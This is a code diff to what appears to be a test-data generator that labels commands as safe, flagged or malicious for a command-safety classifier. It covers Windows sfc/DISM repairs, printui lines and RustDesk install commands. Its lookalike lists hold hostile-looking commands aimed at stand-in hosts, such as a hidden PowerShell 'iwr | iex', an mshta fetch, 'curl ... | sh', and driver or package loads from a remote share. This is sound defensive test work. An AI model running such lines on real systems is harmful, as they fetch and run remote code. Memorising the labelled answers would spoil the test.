@@ -41,6 +41,16 @@ Principles:
 - `raw-github-alias`: raw.github.com, GitHub's first raw host, read as raw.githubusercontent.com:
   the repository's own page vouches for its files there. Look-alikes: another account's page,
   the host inside another domain.
+- `run-box-repair`: Windows' own file check and image repair (sfc /scannow, DISM /Online
+  /Cleanup-Image /RestoreHealth; resources/runbox.yaml `refresh`), typed, from an IT wiki or any
+  page: they repair Windows from the copies and the update source it already has. Look-alikes: a
+  source named (/Source:, a share), a package or a driver added, a file checked by path, a copy of
+  the program elsewhere, a second command, chkdsk /f.
+- `remote-tool-vendor-account`: a remote-access tool's own vendor's page (rustdesk.com's docs)
+  whose download comes from the vendor's forge account of the same name (github.com/rustdesk/
+  .../releases), as its own domain already did. Look-alikes: another account, a look-alike or
+  help-desk page, the repository's own page (a forge account named after a tool can be
+  anyone's), plain HTTP, the Run box.
 - `prose-powershell-pipe`: a sentence naming PowerShell's download-and-run pipe as words ("an irm
   | iex line", "iwr | Invoke-Expression"), as a security write-up does. Look-alikes: an address,
   a host or a variable in the line, a real cmdlet line after a semicolon, a fake check's words
@@ -72,6 +82,7 @@ TOOL_PAGES = [
     "eventvwr.msc /c:Microsoft-Windows-TaskScheduler/Operational", "mmc eventvwr.msc /c:Setup",
     'EventVwr.msc /c:"Windows PowerShell"', "taskmgr /3", "Taskmgr.exe /startup", "taskmgr /0 /startup",
     "sndvol -m", "SndVol.exe -f",
+    "printui /il", "printui.exe /il", "rundll32 printui.dll,PrintUIEntry /il",
 ]  # fmt: skip
 TOOL_PAGE_LOOKALIKES = [
     r"eventvwr /l:\\203.0.113.7\s\x.evtx", r"eventvwr.msc /c:System /l:C:\Users\Public\x.evtx",
@@ -86,6 +97,10 @@ TOOL_PAGE_LOOKALIKES = [
     r"mmc \\203.0.113.7\s\eventvwr.msc /c:System", r"mmc C:\Users\Public\Downloads\eventvwr.msc /c:System",
     "eventvwr.msc /c:System https://cdn.umbra-stage.test/a.msc", "taskmgr /3 calc", "sndvol -m -m",
     "msra /novice", "msra /expert",
+    r"printui /il /f \\203.0.113.7\s\x.inf",
+    r"rundll32 printui.dll,PrintUIEntry /ia /m x /f \\203.0.113.7\s\x.inf",
+    r"rundll32 printui.dll,PrintUIEntry /il /c\\203.0.113.7", r"rundll32 C:\Users\Public\printui.dll,PrintUIEntry /il",
+    r"printui.exe /ga /n\\203.0.113.7\Floor2",
 ]  # fmt: skip
 
 
@@ -158,6 +173,37 @@ def rundll_pages(book: Book) -> None:
             (HELP_PAGE, CHECK_PAGE)[i % 2],
         )
         book.add("rundll-page-lookalike", text, "flagged", "windows", RUN)
+
+
+# -- Windows' own file check and image repair ---------------------------------------------------
+
+REPAIRS = [
+    "Sfc /ScanNow", "sfc.exe /scannow", "SFC /SCANNOW", "sfc /verifyonly",
+    "DISM.exe /Online /Cleanup-Image /RestoreHealth", "dism /online /cleanup-image /scanhealth",
+    "Dism.exe /Online /Cleanup-Image /CheckHealth", "cmd /c sfc /scannow",
+    "cmd /k DISM /Online /Cleanup-Image /RestoreHealth", "dism /Online /Cleanup-Image /ScanHealth",
+]  # fmt: skip
+REPAIR_LOOKALIKES = [
+    r"DISM /Online /Cleanup-Image /RestoreHealth /Source:\\203.0.113.7\s\install.wim",
+    r"dism /online /add-package /packagepath:\\203.0.113.7\s\x.cab",
+    r"dism /online /add-driver /driver:C:\Users\Public\x.inf",
+    "dism /online /enable-feature /featurename:TelnetClient",
+    r"sfc /scanfile=C:\Users\Public\x.dll", r"sfc /offbootdir=\\203.0.113.7\s /scannow",
+    r"C:\Users\Public\sfc.exe /scannow", "sfc /scannow & mshta https://cdn.umbra-stage.test/a",
+    "sfc /scannow && powershell -w h -c iwr https://cdn.umbra-stage.test/a|iex", "chkdsk C: /f /r",
+    "sfc /scannow /scannow",
+]  # fmt: skip
+
+
+def repairs(book: Book) -> None:
+    sources = [None, WIKI, HELP_PAGE]
+    for i, text in enumerate(REPAIRS):
+        book.add("run-box-repair", text, "not_flagged", "windows", RUN, sources[i % 3])
+    for i, text in enumerate(REPAIR_LOOKALIKES):
+        book.add(
+            "repair-lookalike", text, "malicious", "windows", RUN, (HELP_PAGE, CHECK_PAGE)[i % 2]
+        )
+        book.add("repair-lookalike", text, "flagged", "windows", RUN)
 
 
 # -- sentences naming PowerShell's download-and-run pipe ------------------------------------------
@@ -388,15 +434,54 @@ def raw_alias(book: Book) -> None:
         book.add("raw-github-alias-lookalike", text, "flagged", "linux", TERMINAL, page)
 
 
+# -- a remote-access tool's vendor page and its own forge account ------------------------------
+
+VENDOR_PAGES = [
+    "https://rustdesk.com/docs/en/client/linux/",
+    "https://rustdesk.com/docs/en/self-host/rustdesk-server-oss/install/",
+    "https://rustdesk.com/download",
+]
+VENDOR_TEXTS = [
+    "wget https://github.com/rustdesk/rustdesk/releases/download/1.3.2/rustdesk-1.3.2-x86_64.deb && sudo apt install -fy ./rustdesk-1.3.2-x86_64.deb",
+    "curl -LO https://github.com/rustdesk/rustdesk/releases/download/1.3.2/rustdesk-1.3.2-0.x86_64.rpm\nsudo dnf install ./rustdesk-1.3.2-0.x86_64.rpm",
+    "wget https://github.com/rustdesk/rustdesk/releases/download/1.3.2/rustdesk-1.3.2-x86_64.AppImage && chmod +x rustdesk-1.3.2-x86_64.AppImage && ./rustdesk-1.3.2-x86_64.AppImage",
+    "wget https://github.com/rustdesk/rustdesk-server/releases/download/1.1.12/rustdesk-server-hbbs_1.1.12_amd64.deb && sudo dpkg -i rustdesk-server-hbbs_1.1.12_amd64.deb",
+    "curl -fsSLO https://github.com/rustdesk/rustdesk/releases/download/1.3.2/rustdesk-1.3.2-aarch64.deb\nsudo apt install ./rustdesk-1.3.2-aarch64.deb",
+]  # fmt: skip
+VENDOR_LOOKALIKES = [
+    ("https://rustdesk.com/docs/en/client/linux/", "wget https://github.com/rustdesk-dl/rustdesk/releases/download/1.3.2/r.deb && sudo apt install -fy ./r.deb"),
+    ("https://rustdesk.com/docs/en/client/linux/", "wget https://github.com/umbra-stage/rustdesk/releases/download/1.3.2/r.deb && sudo apt install -fy ./r.deb"),
+    ("https://rustdesk.com/docs/en/client/linux/", "wget http://github.com/rustdesk/rustdesk/releases/download/1.3.2/r.deb && sudo apt install -fy ./r.deb"),
+    ("https://rustdesk-support.example/install", "wget https://github.com/rustdesk/rustdesk/releases/download/1.3.2/r.deb && sudo apt install -fy ./r.deb"),
+    ("https://rustdesk.com.umbra-stage.test/docs", "wget https://github.com/rustdesk/rustdesk/releases/download/1.3.2/r.deb && sudo apt install -fy ./r.deb"),
+    ("https://www.quillmere.example/remote-help", "wget https://github.com/rustdesk/rustdesk/releases/download/1.3.2/r.deb && sudo apt install -fy ./r.deb"),
+    ("https://github.com/rustdesk/rustdesk", "wget https://github.com/rustdesk/rustdesk/releases/download/1.3.2/r.deb && sudo apt install -fy ./r.deb"),
+    ("https://rustdesk.com/docs/en/client/linux/", "wget https://github.com/rustdesk/rustdesk/releases/download/1.3.2/r.deb && sudo apt install -fy ./r.deb && curl -s https://203.0.113.7/k | sh"),
+]  # fmt: skip
+
+
+def vendor_accounts(book: Book) -> None:
+    for i, text in enumerate(VENDOR_TEXTS):
+        for j in range(2):
+            page = VENDOR_PAGES[(i + j) % len(VENDOR_PAGES)]
+            book.add("remote-tool-vendor-account", text, "not_flagged", "linux", TERMINAL, page)
+    for page, text in VENDOR_LOOKALIKES:
+        book.add("vendor-account-lookalike", text, "flagged", "linux", TERMINAL, page)
+    text = "msiexec /i https://github.com/rustdesk/rustdesk/releases/download/1.3.2/rustdesk-1.3.2-x86_64.msi /qn"
+    book.add("vendor-account-run-box", text, "malicious", "windows", RUN, VENDOR_PAGES[2])
+
+
 def build() -> list[dict[str, str]]:
     book = Book("b12b")
     tool_pages(book)
     rundll_pages(book)
+    repairs(book)
     ps_pipes(book)
     spelt_sites(book)
     known_installers(book)
     argument_installers(book)
     raw_alias(book)
+    vendor_accounts(book)
     return book.cases
 
 
